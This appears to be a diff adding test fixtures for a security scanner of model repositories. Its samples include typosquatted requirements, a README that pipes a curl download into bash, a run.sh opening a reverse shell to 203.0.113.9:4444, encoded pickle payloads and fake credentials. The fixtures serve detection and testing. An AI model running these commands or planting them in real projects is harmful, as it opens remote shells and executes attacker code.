@@ -1,0 +1,105 @@
+
+"""Dependency lists, plain text, credentials. Addresses are of RFC 5737 and RFC 2606, and lead nowhere."""
+
+from __future__ import annotations
+
+import base64
+import json
+
+from stannary.testing.forges.configs import PICKLE, URL, file
+
+__all__: list[str] = []
+
+# Dependencies
+
+file("requirements.typosquat", "requirements.txt", "numpy==1.26.4\ntransfromers==4.40.0\n", "dependencies")
+file("requirements.typosquat_requests", "requirements.txt", "requestss\n", "dependencies")
+file("requirements.plain_http_index", "requirements.txt", "--index-url http://203.0.113.9/simple\nnumpy==1.26.4\n", "dependencies")
+file(
+    "requirements.extra_index",
+    "requirements.txt",
+    "--extra-index-url https://packages.example.org/simple\nnumpy==1.26.4\n",
+    "dependencies",
+    malicious=None,
+)
+file(
+    "requirements.url",
+    "requirements.txt",
+    "git+https://github.com/huggingface/transformers@v4.40.0\n",
+    "dependencies",
+    malicious=False,
+)
+file("requirements.url_http", "requirements.txt", "tool @ http://203.0.113.9/tool-1.0.tar.gz\n", "dependencies")
+file(
+    "requirements.trusted_host",
+    "requirements.txt",
+    "--trusted-host packages.example.org\nnumpy==1.26.4\n",
+    "dependencies",
+    malicious=None,
+)
+file("requirements.unpinned", "requirements.txt", "torch\ntransformers\n", "dependencies", malicious=False)
+file(
+    "requirements.pinned",
+    "requirements.txt",
+    "torch==2.3.1\ntransformers==4.41.2\nnumpy==1.26.4\n",
+    "dependencies",
+    malicious=False,
+)
+file("requirements.vulnerable", "requirements.txt", "torch==1.13.0\n", "dependencies", malicious=False)
+file(
+    "requirements.pytorch_index",
+    "requirements.txt",
+    "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch==2.3.1\n",
+    "dependencies",
+    malicious=False,
+)
+
+# Text
+
+file("text.readme_curl", "README.md", f"# Model\n\nFirst run:\n\n```\ncurl -s {URL} | bash\n```\n", "text")
+file(
+    "text.readme_plain",
+    "README.md",
+    "---\nlicense: apache-2.0\ntags: [x]\n---\n# Model\n\n```\ncurl -LsSf https://astral.sh/uv/install.sh | sh\npip install transformers\n```\n\nLoad with `trust_remote_code=True`.\n",
+    "text",
+    malicious=False,
+)
+file("text.script_shell", "run.sh", "set -e\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", "text")
+file(
+    "text.script_plain",
+    "run.sh",
+    "#!/bin/bash\nset -e\npip install -r requirements.txt\npython train.py\n",
+    "text",
+    malicious=False,
+)
+file("text.base64_pickle", "notes.txt", b"load me: " + base64.b64encode(PICKLE + b"." * 30) + b"\n", "text")
+file("text.hex_pickle", "notes.txt", PICKLE.hex().encode() + b"\n", "text")
+file("text.escaped_pickle", "notes.txt", "".join(f"\\x{b:02x}" for b in PICKLE), "text")
+file("text.wrapped_pickle", "notes.txt", b"-----\n" + base64.encodebytes(PICKLE + b"." * 60) + b"-----\n", "text")
+file("text.licence_rail", "README.md", "---\nlicense: creativeml-openrail-m\n---\n# Model\n", "text", malicious=False)
+file("text.licence_nc", "README.md", "---\nlicense: cc-by-nc-4.0\n---\n# Model\n", "text", malicious=False)
+file("text.hidden", "notes.txt", "run\u202e txet desrever\u202c\n", "text", malicious=False)
+
+# Credentials, put together here so that no scanner of this source finds them
+
+file("secret.huggingface", "config.json", json.dumps({"token": "hf_" + "QWmnbVCxzLkjHgfDsaPoiUytReKjhGfdSz"}), "secrets")
+file("secret.aws", "settings.env", "AWS_ACCESS_KEY_ID=" + "AKIA" + "Q3EGRT5WKLM2ZNHV" + "\n", "secrets")
+file(
+    "secret.private_key",
+    "id",
+    "-----BEGIN OPENSSH PRIVATE "
+     "KEY-----\n"
+    + base64.b64encode(bytes(range(200))).decode()
+    + "\n-----END OPENSSH PRIVATE "
+    + "KEY-----\n",
+    "secrets",
+)
+file("secret.database", "app.yaml", "db: postgres://admin:" + "q8Zt2LmP0xW" + "@db.example.org/prod\n", "secrets", malicious=False)
+file("secret.assigned", "settings.toml", 'api_key = "' + "Zk3v9QpL7sWx2RtYb8NmJ4" + '"\n', "secrets", malicious=False)
+file(
+    "secret.placeholders",
+    "settings.env",
+    "HF_TOKEN=hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\nOPENAI_API_KEY=sk-...\nPASSWORD=changeme\nurl=postgres://user:${PASSWORD}@host/db\n",
+    "secrets",
+    malicious=False,
+)
